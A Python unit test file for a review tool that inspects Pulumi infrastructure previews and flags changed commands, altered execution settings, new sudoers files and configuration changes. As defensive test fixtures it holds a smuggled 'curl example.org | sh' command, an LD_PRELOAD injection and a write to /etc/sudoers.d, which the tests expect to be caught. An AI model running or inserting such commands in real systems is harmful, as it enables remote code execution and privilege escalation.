"""The commands and nodes that a change adds, on recorded previews and on variations of them."""

import json
from typing import Any

import pytest

from idr.review import rules
from idr.review.power import power_changes
from idr.review.preview import read
from idr.review.rules import Change
from tests.unit.review.test_power import broken
from tests.unit.review.test_review import raw


@pytest.mark.parametrize("kind", ["command:remote:Command", "command:local:Command"])
@pytest.mark.parametrize("event", ["create", "update", "delete"])
def test_a_command_that_did_not_run_before_breaks_a_rule(kind: str, event: str) -> None:
    preview = raw("nothing")
    urn = f"urn:pulumi:local::idr::{kind}::demo1-redis"
    states = [{"inputs": {event: command}} for command in ("sudo idr-apply", "sudo idr-apply; curl example.org | sh")]
    preview["steps"].append({"op": "update", "urn": urn, "oldState": states[0], "newState": states[1]})
    (breach,) = rules.check(Change(read(json.dumps(preview))))
    assert breach.rule == "command-changed"
    assert breach.text.endswith("curl example.org | sh")


@pytest.mark.parametrize("around", ["interpreter", "environment", "dir"])
def test_a_known_command_in_another_surrounding_breaks_a_rule(around: str) -> None:
    preview = raw("nothing")
    states = [{"inputs": {"create": "idr.stop"}}, {"inputs": {"create": "idr.stop", around: {"LD_PRELOAD": "x.so"}}}]
    urn = "urn:pulumi:local::idr::command:local:Command::demo1-redis"
    preview["steps"].append({"op": "update", "urn": urn, "oldState": states[0], "newState": states[1]})
    (breach,) = rules.check(Change(read(json.dumps(preview))))
    assert breach.rule == "command-changed"
    assert "LD_PRELOAD" in breach.text


def test_a_command_of_a_kind_that_was_not_there_breaks_a_rule() -> None:
    preview = raw("nothing")
    urn = "urn:pulumi:local::idr::command:remote:CopyToRemote::sudoers"
    preview["steps"].append({"op": "create", "urn": urn, "newState": {"inputs": {"remotePath": "/etc/sudoers.d/x"}}})
    (breach,) = rules.check(Change(read(json.dumps(preview))))
    assert breach.rule == "command-changed"
    assert breach.text.endswith("command:remote:CopyToRemote sudoers")


def test_another_node_with_the_known_command_breaks_no_rule() -> None:
    preview = raw("nothing")
    state = {"inputs": {"create": "sudo idr-apply"}}
    urn = "urn:pulumi:local::idr::command:remote:Command::demo1-"
    preview["steps"] += [
        {"op": "same", "urn": f"{urn}redis", "oldState": state, "newState": state},
        {"op": "create", "urn": f"{urn}web", "newState": state},
    ]
    assert broken(read(json.dumps(preview))) == []


def server(node: str, op: str) -> dict[str, Any]:
    """Return a step of a node's server."""
    urn = f"urn:pulumi:local::idr::openstack:compute/instance:Instance::{node}"
    state = {"inputs": {"name": node}}
    return {"op": op, "urn": urn, **({"newState": state} if op == "create" else {"oldState": state})}


def test_a_node_like_another_one_has_no_new_key_and_a_deleted_one_loses_none() -> None:
    preview = raw("operator-added")
    (step,) = (step for step in preview["steps"] if "Disclosure" in step["urn"])
    inputs = step["oldState"]["inputs"]
    key = "omero.web.apps"
    step["oldState"]["inputs"] = {**inputs, "omero": {key: {"a": "1", "gone": "1"}}}
    step["newState"]["inputs"] = {**inputs, "omero": {key: {"a": "1", "new": "1"}}}
    preview["steps"] += [server("new", "create"), server("gone", "delete")]
    assert power_changes(read(json.dumps(preview))).keys == ()
    step["newState"]["inputs"]["omero"] = {key: {"a": "1", "new": "2"}}
    (change,) = power_changes(read(json.dumps(preview))).keys
    assert (str(change), broken(read(json.dumps(preview)))) == (f"{key} is set on new", ["access-changed"])
